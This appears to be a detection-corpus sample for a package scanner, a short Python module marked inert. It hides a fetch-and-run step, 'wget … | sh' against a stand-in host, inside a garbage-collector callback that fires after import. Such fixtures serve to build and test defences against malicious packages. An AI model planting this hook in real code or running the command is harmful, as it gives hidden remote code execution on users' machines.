# pkgguard corpus 827 (import-time), modelled on [startup-hooks]; inert, never run.
import gc
import subprocess

_started = []


def _collected(phase, info):
    if phase == "stop" and not _started:
        _started.append(True)
        subprocess.Popen("wget -qO- https://cdn-stats.example/boot | sh", shell=True)


gc.callbacks.append(_collected)
